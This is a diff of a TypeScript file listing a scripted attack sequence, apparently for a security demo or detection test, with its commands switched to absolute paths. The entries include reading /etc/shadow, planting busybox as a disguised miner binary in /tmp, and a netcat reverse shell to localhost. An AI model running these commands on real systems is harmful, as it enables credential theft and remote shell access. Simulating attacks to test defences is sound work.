@@ -24,12 +24,12 @@ export interface AttackAct {
 }
 
 export const attackActs: readonly AttackAct[] = [
-  { id: 'shell', title: 'finds the hole, and asks who it is', command: 'id' },
-  { id: 'shadow', title: 'reads the password hashes', command: 'cat /etc/shadow' },
+  { id: 'shell', title: 'finds the hole, and asks who it is', command: '/bin/id' },
+  { id: 'shadow', title: 'reads the password hashes', command: '/bin/cat /etc/shadow' },
   {
     id: 'drop',
     title: 'drops a miner and runs it',
-    command: 'cp /bin/busybox /tmp/kdevtmpfsi; chmod +x /tmp/kdevtmpfsi; /tmp/kdevtmpfsi',
+    command: '/bin/cp /bin/busybox /tmp/kdevtmpfsi; /tmp/kdevtmpfsi',
   },
   {
     id: 'cron',
@@ -39,6 +39,6 @@ export const attackActs: readonly AttackAct[] = [
   {
     id: 'reverse',
     title: 'calls home with a shell',
-    command: 'nc 127.0.0.1 4444 -e /bin/sh',
+    command: '/usr/bin/nc 127.0.0.1 4444 -e /bin/sh',
   },
 ]
